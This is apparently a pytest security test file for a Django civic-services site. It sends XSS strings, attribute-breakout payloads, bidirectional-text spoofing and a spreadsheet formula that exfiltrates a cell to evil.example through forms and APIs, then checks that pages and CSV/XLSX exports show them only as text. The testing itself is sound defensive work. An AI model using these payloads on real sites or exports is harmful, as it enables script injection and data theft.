"""Hostile strings through the text fields, then every page that shows them, read by a parser.

Each payload goes in through the real entry (the web form or the JSON API) of: appeal intake
(text, address, contact name), a handler's reply, consultation comments, exemplar nominations
(story), misconduct reports (content), grassroots visit logs and questionnaires' free-text answers. The pages that show the text are
then parsed with ``html.parser``: no element or attribute the payload tried to inject may exist,
and the payload must be there as text (escaped in the markup, read back whole by the parser).

Bidirectional controls (U+202A–U+202E, U+2066–U+2069) are removed when text is stored
(``minsheng.bidi``); oversized input is refused with a 4xx naming the limit, never a 500.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from html.parser import HTMLParser
from typing import Any

import pytest
from django.test import Client

from appeals import services as appeals_services
from appeals.models import Appeal
from consult.models import Comment, Draft
from consult.tests.conftest import now, open_draft  # noqa: F401 - fixtures used below
from exemplars import services as exemplar_services
from exemplars.models import Candidate, NominatorKind
from exemplars.tests.conftest import new_campaign
from grassroots.models import Household, Visit
from grassroots.tests.conftest import households  # noqa: F401 - fixture used below
from integrity.models import Report
from minsheng.bidi import BIDI_CONTROLS, strip_bidi_controls

pytestmark = pytest.mark.django_db

SCRIPT = "<script>alert(1)</script>"
BREAK_DOUBLE = '"><img src=x onerror=alert(1)>'
BREAK_SINGLE = "' onmouseover='x"
RTL = "付款\u202egpj.exe\u202c 与 \u2066隔离\u2069 \u2067右\u2069 \u2068首\u2069"
ASTRAL = "𠀋𡈽𩸽 🏠🚧 e\u0301\u0302\u0303 Z\u0336\u0335\u0334"
PAYLOADS = (SCRIPT, BREAK_DOUBLE, BREAK_SINGLE, RTL, ASTRAL)
# What each payload may leave behind: its own tag or handler, if escaping failed.
FORBIDDEN_TAGS = {"img", "svg", "iframe", "object", "embed"}
ONE_MEGABYTE = "字" * (1024 * 1024 // 3)


class Page(HTMLParser):
    """Every element, attribute and piece of text of a page, as a browser's parser would see them."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def readable(self) -> str:
        """The text and attribute values: where escaped user text is read back by the parser."""
        values = [v for _tag, attrs in self.tags for v in attrs.values() if v]
        return "\n".join(self.text + values)


def _our_chart(tag: str, attrs: dict[str, str | None]) -> bool:
    """The results pages draw their bars as inline SVG of class ``chart-…`` (no payload makes one:
    an injected ``<svg`` would carry no such class, and any ``on…`` handler is caught anyway)."""
    return tag == "svg" and (attrs.get("class") or "").startswith("chart-")


def assert_nothing_injected(html: str, *, shown: tuple[str, ...] = ()) -> None:
    page = Page(html)
    injected = [
        f"<{tag} {attrs}>"
        for tag, attrs in page.tags
        if (tag in FORBIDDEN_TAGS and not _our_chart(tag, attrs))
        or (tag == "script" and not attrs.get("src") and attrs.get("type") != "application/json")
        or any(name.startswith("on") for name in attrs)
        or "x" in attrs  # `' onmouseover='x` split into attributes would leave a bare x
        or attrs.get("src") == "x"
    ]
    assert not injected, injected
    assert not BIDI_CONTROLS.intersection(html), "a bidirectional control reached the page"
    readable = page.readable()
    missing = [text for text in shown if text not in readable]
    assert not missing, f"not shown as text: {missing}"


def marked(label: str, payload: str) -> str:
    return f"{label}:{payload}"


def as_shown(text: str) -> str:
    return strip_bidi_controls(text)


def _post_json(client: Client, url: str, body: dict[str, Any]) -> Any:
    return client.post(url, json.dumps(body, ensure_ascii=False), content_type="application/json")


# --- appeals ------------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS, ids=["script", "double", "single", "rtl", "astral"])
def test_hostile_appeal_text_from_the_web_form_is_shown_as_text_on_every_page(
    payload: str, category_tree: Any, dispatcher: Any, handler: Any, org_tree: Any
) -> None:
    citizen = Client()
    response = citizen.post(
        "/appeals/new/",
        {
            "text": marked("诉求", payload) + " 东华路菜市场门口有摊贩占道。",
            "category": "test-street-vending",
            "address": marked("地址", payload)[:255],
            "contact_name": marked("称", payload)[:64],
            "contact_phone": "13800000001",
        },
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    done = citizen.get("/appeals/new/done/").content.decode()
    assert_nothing_injected(done)
    appeal = Appeal.objects.get()
    assert not BIDI_CONTROLS.intersection(appeal.text + appeal.address)
    assert as_shown(marked("诉求", payload)) in appeal.text

    appeals_services.do_register(appeal, dispatcher)
    appeals_services.do_dispatch(appeal, org_tree.chengguan, dispatcher)
    appeals_services.do_sign(appeal, handler)
    appeals_services.do_handle(appeal, handler)
    staff = Client()
    staff.force_login(handler)
    reply = staff.post(
        f"/workbench/appeals/{appeal.pk}/reply/", {"reply-text": marked("答复", payload)}
    )
    assert reply.status_code in {200, 302}, reply.content.decode()[:2000]
    assert appeal.replies.exists(), "the reply was not taken"

    case = staff.get(f"/workbench/appeals/{appeal.pk}/").content.decode()
    assert_nothing_injected(
        case,
        shown=(
            as_shown(marked("诉求", payload)),
            as_shown(marked("地址", payload))[:255],
            as_shown(marked("答复", payload)),
        ),
    )
    assert_nothing_injected(staff.get("/workbench/appeals/").content.decode())
    desk = Client()
    desk.force_login(dispatcher)
    assert_nothing_injected(desk.get("/workbench/appeals/?state=").content.decode())

    secret = done.split('id="appeal-secret">', 1)[1].split("<", 1)[0]
    tracker = Client()
    tracker.post("/appeals/track/", {"code": appeal.code, "secret": secret})
    tracking = tracker.get(f"/appeals/track/{appeal.code}/").content.decode()
    assert_nothing_injected(tracking, shown=(as_shown(marked("答复", payload)),))


@pytest.mark.parametrize("payload", PAYLOADS, ids=["script", "double", "single", "rtl", "astral"])
def test_hostile_appeal_fields_through_the_api_are_stored_without_bidi_controls_and_shown_as_text(
    payload: str, category_tree: Any, dispatcher: Any
) -> None:
    body = {
        "text": marked("接口诉求", payload),
        "category": "test-street-vending",
        "address": marked("接口地址", payload),
        "contact_name": marked("名", payload)[:64],
    }
    response = _post_json(Client(), "/api/appeals/", body)
    assert response.status_code == 201, response.content
    appeal = Appeal.objects.get()
    assert appeal.text == as_shown(body["text"]) and appeal.address == as_shown(body["address"])
    desk = Client()
    desk.force_login(dispatcher)
    case = desk.get(f"/workbench/appeals/{appeal.pk}/").content.decode()
    assert_nothing_injected(case, shown=(appeal.text, appeal.address))
    answer = desk.get(f"/api/appeals/{appeal.pk}").json()
    assert answer["text"] == appeal.text


@pytest.mark.parametrize(
    ("url", "field", "limit"),
    [("/appeals/new/", "text", 5000), ("/appeals/new/", "address", 255)],
)
def test_a_megabyte_in_a_web_form_field_is_refused_with_400_naming_the_limit(
    url: str, field: str, limit: int, category_tree: Any
) -> None:
    data = {"text": "路灯不亮。", "category": "test-street-vending", field: ONE_MEGABYTE}
    response = Client().post(url, data)
    assert response.status_code == 400
    assert str(limit) in response.content.decode()
    assert not Appeal.objects.exists()


@pytest.mark.parametrize("field", ["text", "address", "contact_name", "title"])
def test_a_megabyte_in_an_api_field_is_refused_with_422_naming_the_field(
    field: str, category_tree: Any
) -> None:
    body = {"text": "路灯不亮。", field: ONE_MEGABYTE}
    response = _post_json(Client(), "/api/appeals/", body)
    assert response.status_code == 422, response.status_code
    assert any(f["field"] == field for f in response.json()["detail"])
    assert not Appeal.objects.exists()


def test_a_body_over_the_request_limit_is_refused_with_413_not_500(category_tree: Any) -> None:
    body = {"text": "字" * (3 * 1024 * 1024)}
    response = _post_json(Client(), "/api/appeals/", body)
    assert response.status_code == 413
    assert response.json()["code"] == "payload_too_large"
    assert not Appeal.objects.exists()


# --- the other apps -----------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS, ids=["script", "double", "single", "rtl", "astral"])
def test_hostile_consultation_comments_are_shown_as_text(
    payload: str,
    open_draft: Draft,  # noqa: F811
    citizen: Any,
    organiser: Any,
    client_for: Callable[[Any], Client],
) -> None:
    article = open_draft.articles.order_by("pk").first()
    assert article is not None
    text = marked("意见", payload)
    url = f"/consult/drafts/{open_draft.pk}/articles/{article.pk}/comment/"
    response = client_for(citizen).post(url, {"text": text})
    assert response.status_code in {200, 302}, response.content.decode()[:2000]
    assert Comment.objects.get().text == as_shown(text)
    public = Client().get(f"/consult/drafts/{open_draft.pk}/").content.decode()
    assert_nothing_injected(public)
    # The pages show comments only as counts (the text goes to the adoption report's author).
    page = client_for(organiser).get(f"/workbench/consult/drafts/{open_draft.pk}/")
    assert_nothing_injected(page.content.decode())


@pytest.mark.parametrize("payload", PAYLOADS, ids=["script", "double", "single", "rtl", "astral"])
def test_hostile_nomination_stories_are_shown_as_text(
    payload: str, organiser: Any, citizen: Any, client_for: Callable[[Any], Client]
) -> None:
    campaign = exemplar_services.advance_phase(organiser, new_campaign(organiser))
    category = campaign.categories.order_by("pk").first()
    assert category is not None
    story = marked("事迹", payload) + " 多年照顾孤寡老人，风雨无阻。" * 3
    response = client_for(citizen).post(
        f"/exemplars/{campaign.pk}/nominate/",
        {
            "category": category.pk,
            "name": marked("名", payload)[:40],
            "affiliation": "东华社区居民",
            "story": story,
            "phone": "13700137000",
            "nominator_kind": NominatorKind.CITIZEN,
        },
    )
    assert response.status_code in {200, 302}, response.content.decode()[:3000]
    candidate = Candidate.objects.get()
    assert candidate.story == as_shown(story).strip()
    organiser_pages = client_for(organiser)
    assert_nothing_injected(
        organiser_pages.get(f"/workbench/exemplars/{campaign.pk}/").content.decode()
    )
    exemplar_services.advance_phase(organiser, campaign)
    exemplar_services.review(organiser, candidate, accept=True, reason="事迹属实，经社区核实")
    exemplar_services.advance_phase(organiser, campaign)
    story_page = Client().get(f"/exemplars/candidates/{candidate.pk}/")
    assert story_page.status_code == 200
    shown = (as_shown(marked("事迹", payload)), as_shown(marked("名", payload)[:40]))
    assert_nothing_injected(story_page.content.decode(), shown=shown)
    assert_nothing_injected(Client().get(f"/exemplars/{campaign.pk}/").content.decode())


@pytest.mark.parametrize("payload", PAYLOADS, ids=["script", "double", "single", "rtl", "astral"])
def test_hostile_misconduct_reports_are_shown_as_text_to_the_inspector(
    payload: str, org_tree: Any, auditor: Any, client_for: Callable[[Any], Client]
) -> None:
    content = marked("举报", payload) + " 该工作人员在东华路收取摊贩现金，不开票据。"
    response = Client().post(
        "/integrity/",
        {
            "kind": Report._meta.get_field("kind").choices[0][0],  # type: ignore[index]
            "target_unit": org_tree.chengguan.pk,
            "target_name": marked("人", payload)[:100],
            "content": content,
            "named": "0",
        },
    )
    assert response.status_code in {200, 302}, response.content.decode()[:3000]
    report = Report.objects.get()
    inspector = client_for(auditor)
    page = inspector.get(f"/workbench/integrity/{report.pk}/")
    assert page.status_code == 200
    assert_nothing_injected(page.content.decode(), shown=(as_shown(content),))
    assert_nothing_injected(inspector.get("/workbench/integrity/").content.decode())


@pytest.mark.parametrize("payload", PAYLOADS, ids=["script", "double", "single", "rtl", "astral"])
def test_hostile_visit_logs_are_shown_as_text(
    payload: str,
    cadre: Any,
    households: list[Household],  # noqa: F811
    client_for: Callable[[Any], Client],
) -> None:
    from django.utils import timezone

    client = client_for(cadre)
    found = marked("情况", payload)
    response = client.post(
        "/workbench/grassroots/visits/new/",
        {
            "household": households[0].pk,
            "visited_on": timezone.localdate().isoformat(),
            "met": marked("见", payload)[:60],
            "found": found,
            "needs": marked("诉", payload),
        },
    )
    assert response.status_code == 302, response.content.decode()[:3000]
    visit = Visit.objects.get()
    page = client.get(f"/workbench/grassroots/visits/{visit.pk}/").content.decode()
    assert_nothing_injected(page, shown=(as_shown(found),))
    assert_nothing_injected(client.get("/workbench/grassroots/").content.decode())


# --- questionnaires' free-text answers -----------------------------------------------------------
# A spreadsheet runs a cell that starts with one of these as a formula (CSV and XLSX alike).
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


# Answers are kept in a JSON field, which the pre_save clean-up of bidirectional controls does not
# reach (minsheng/bidi.py): surveys.services strips them when it checks a text answer.
SURVEY_PAYLOADS = [
    pytest.param(SCRIPT, id="script"),
    pytest.param(BREAK_DOUBLE, id="double"),
    pytest.param(BREAK_SINGLE, id="single"),
    pytest.param(RTL, id="rtl"),
    pytest.param(ASTRAL, id="astral"),
    pytest.param(FORMULA, id="formula"),
]


@pytest.mark.parametrize("payload", SURVEY_PAYLOADS)
def test_hostile_survey_text_answers_are_stored_and_shown_as_text_in_results_and_exports(
    payload: str, organiser: Any, org_tree: Any, client_for: Callable[[Any], Client]
) -> None:
    import csv
    import io

    from openpyxl import load_workbook

    from surveys.models import Response
    from surveys.tests.conftest import build_questionnaire

    built = build_questionnaire(organiser, org_tree.community)
    q = built.q
    # The web form, page by page, for the hostile answer; the API for a few ordinary ones, so
    # that the themes have something to group.
    phone = Client()
    pages = [
        (0, {f"q{built.floor.pk}": "low", f"q{built.support.pk}": "yes"}),
        (
            1,
            {
                f"q{built.concerns.pk}": ["cost"],
                f"q{built.rating.pk}": "4",
                f"q{built.matrix.pk}_r1": "c1",
                f"q{built.matrix.pk}_r2": "c2",
            },
        ),
    ]
    for step, data in pages:
        assert phone.post(f"/surveys/{q.pk}/s/{step}/", data).status_code == 302
    text = payload if payload == FORMULA else marked("建议", payload)
    last = phone.post(f"/surveys/{q.pk}/s/3/", {f"q{built.idea.pk}": text})
    assert last.status_code == 302, last.content.decode()[:2000]
    for n, idea in enumerate(["希望尽快装电梯", "电梯费用分摊要公开", "装电梯别挡一楼采光"]):
        answers = built.answers(**{built.idea.key: idea})
        sent = _post_json(
            Client(REMOTE_ADDR=f"198.51.100.{n + 40}"),
            f"/api/surveys/{q.pk}/responses",
            {"answers": answers},
        )
        assert sent.status_code == 201, sent.content
    stored = Response.objects.order_by("pk").first()
    assert stored is not None and stored.answers[built.idea.key] == as_shown(text)

    manager = client_for(organiser)
    assert manager.post(f"/workbench/surveys/{q.pk}/themes/{built.idea.pk}/").status_code in {
        200,
        302,
    }
    results = manager.get(f"/workbench/surveys/{q.pk}/results/")
    assert results.status_code == 200
    assert_nothing_injected(results.content.decode())
    published = manager.post(f"/workbench/surveys/{q.pk}/results/publish/", {"public": "1"})
    assert published.status_code in {200, 302}
    assert_nothing_injected(Client().get(f"/surveys/{q.pk}/results/").content.decode())
    assert_nothing_injected(manager.get(f"/workbench/surveys/{q.pk}/").content.decode())

    reply = manager.get(f"/workbench/surveys/{q.pk}/export.csv")
    streamed: Any = reply  # a StreamingHttpResponse: the export is written row by row
    rows = list(csv.reader(io.StringIO(b"".join(streamed.streaming_content).decode("utf-8-sig"))))
    column = rows[0].index(next(h for h in rows[0] if built.idea.text in h))
    cells = [row[column] for row in rows[1:]]
    # In CSV a cell a spreadsheet would run gets a leading apostrophe, the rest is kept.
    assert not any(c.startswith(FORMULA_STARTS) for c in cells), cells
    expected = as_shown(text)
    assert ("'" + expected if expected.startswith(FORMULA_STARTS) else expected) in cells, cells
    assert not BIDI_CONTROLS.intersection("".join(cells))

    # In XLSX the cell keeps exactly what was sent, typed as a string: never a formula.
    book = load_workbook(io.BytesIO(manager.get(f"/workbench/surveys/{q.pk}/export.xlsx").content))
    sheet_cells = [row[column] for row in book["答卷"].iter_rows(min_row=2)]
    assert all(c.data_type == "s" for c in sheet_cells), [c.data_type for c in sheet_cells]
    assert as_shown(text) in [c.value for c in sheet_cells]


def test_an_oversized_survey_text_answer_is_refused_with_422_naming_the_question(
    organiser: Any, org_tree: Any
) -> None:
    from surveys.models import Response
    from surveys.tests.conftest import build_questionnaire

    built = build_questionnaire(organiser, org_tree.community)
    answers = built.answers(**{built.idea.key: "电梯" * 1000})
    refused = _post_json(Client(), f"/api/surveys/{built.q.pk}/responses", {"answers": answers})
    assert refused.status_code == 422, refused.content
    body = refused.json()
    assert body["code"] == "validation_error"
    assert built.idea.text in body["message"] and "200" in body["message"]
    assert not Response.objects.exists()
